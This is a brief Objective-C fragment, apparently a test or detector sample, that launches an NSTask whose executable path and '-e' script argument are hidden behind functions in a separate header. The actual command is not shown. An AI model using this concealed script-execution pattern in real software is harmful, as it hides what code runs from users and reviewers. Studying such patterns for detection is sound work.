/* An NSTask by class reference, its path and its argument hidden. */
#include "objc.h"
#include "hidden.h" /* 0: the path, 1: the script */
@interface NSArray
+ (id)arrayWithObjects:(id)first, ...;
@end
@interface NSTask
+ (id)new;
- (void)setLaunchPath:(id)path;
- (void)setArguments:(id)words;
- (void)launch;
@end
static void act(char **env) {
    id task = [NSTask new];
    [task setLaunchPath:[NSString stringWithUTF8String:hidden0()]];
    [task setArguments:[NSArray arrayWithObjects:[NSString stringWithUTF8String:"-e"], [NSString stringWithUTF8String:hidden1()], (id)0]];
    [task launch];
}
